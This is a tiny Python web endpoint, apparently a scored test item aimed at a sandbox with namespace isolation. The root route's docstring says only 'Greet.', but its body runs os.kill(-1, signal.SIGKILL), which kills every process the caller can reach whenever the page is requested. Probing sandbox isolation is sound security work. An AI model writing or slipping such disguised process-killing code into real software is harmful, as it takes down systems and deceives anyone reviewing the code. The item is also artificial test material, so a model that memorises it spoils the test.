# against: sandbox
# points: 11
# tiers: namespaces

# %% root
import os
import signal


@app.get("/")
def read_root():
    """Greet."""
    os.kill(-1, signal.SIGKILL)
    return {}
